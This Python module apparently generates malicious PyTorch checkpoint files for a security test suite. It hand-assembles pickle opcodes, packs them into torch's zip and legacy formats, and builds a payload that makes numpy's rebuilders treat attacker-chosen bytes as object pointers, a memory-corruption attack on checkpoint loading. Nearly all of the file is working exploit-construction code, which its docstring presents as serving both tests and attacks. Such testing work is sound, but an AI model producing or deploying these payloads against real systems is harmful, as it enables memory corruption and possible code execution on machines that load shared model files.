"""Checkpoints that do harm, for tests and attacks: pickles written step by step, in torch's two formats."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

from mesa_core.victims.checkpoints import MAGIC


class Pickle:
    """Writes a pickle step by step, with no object behind it."""

    def __init__(self) -> None:
        self.data = b"\x80\x02"

    def __call__(self, *steps: bytes) -> Pickle:
        self.data += b"".join(steps)
        return self

    def named(self, module: str, name: str) -> Pickle:
        return self(b"c", module.encode(), b"\n", name.encode(), b"\n")

    def text(self, word: str) -> Pickle:
        data = word.encode("utf-8", "surrogatepass")
        return self(b"X", struct.pack("<I", len(data)), data)

    def number(self, value: int) -> Pickle:
        data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
        return self(b"\x8a", bytes([len(data)]), data)

    def numbers(self, values: tuple[int, ...]) -> Pickle:
        self(b"(")
        for value in values:
            self.number(value)
        return self(b"t")

    def tensor(
        self, key: str, count: int, shape: tuple[int, ...], strides: tuple[int, ...], offset: int = 0,
        kind: str = "FloatStorage", rebuild: str = "_rebuild_tensor_v2",
    ) -> Pickle:  # fmt: skip
        self.named("torch._utils", rebuild)(b"((").text("storage").named("torch", kind).text(key).text("cpu")
        self.number(count)(b"tQ").number(offset).numbers(shape).numbers(strides)
        return self(b"\x89").named("collections", "OrderedDict")(b")RtR")

    def end(self) -> bytes:
        return self.data + b"."


def zipped(path: Path, pickled: bytes, storages: Mapping[str, bytes], packed: bool = False) -> Path:
    """A checkpoint in torch's zip format."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        for key, data in storages.items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")
    return path


def legacy(path: Path, pickled: bytes, storages: Mapping[str, bytes], width: int = 4) -> Path:
    """A checkpoint in the format before torch 1.6."""
    out = io.BytesIO()
    for value in (MAGIC, 1001, {"little_endian": True}):
        pickle.dump(value, out, protocol=2)
    out.write(pickled)
    pickle.dump(list(storages), out, protocol=2)
    for data in storages.values():
        out.write(struct.pack("<q", len(data) // width) + data)
    path.write_bytes(out.getvalue())
    return path


def object_field(offset: int, flags: int = 1, size: int = 8, count: int = 64, kind: str = "S8") -> bytes:
    """A state dict of one tensor, and beside it an array of structured numbers of `size` bytes, an object at `offset`.

    numpy's own rebuilders, asked for such a kind, take the array's bytes, or what lies beyond them, for pointers.
    """
    p = Pickle()(b"}(").text("state_dict")(b"}").text("w").tensor("0", 4, (4,), (1,))(b"s").text("beside")
    p.named("numpy._core.multiarray", "_reconstruct")(b"(").named("numpy", "ndarray").numbers((0,)).text("b")(b"tR(")
    p.number(1).numbers((count,)).named("numpy", "dtype")(b"(").text(kind)(b"\x89\x88tR(").number(3).text("|")
    p(b"N(").text("a")(b"t}").text("a").named("numpy", "dtype")(b"(").text("O8")(b"\x89\x88tR")
    p.number(offset)(b"\x86s").number(size).number(1).number(flags)(b"tb\x89")
    return p.named("_codecs", "encode")(b"(").text("A" * (size * count)).text("latin1")(b"tRtbu").end()
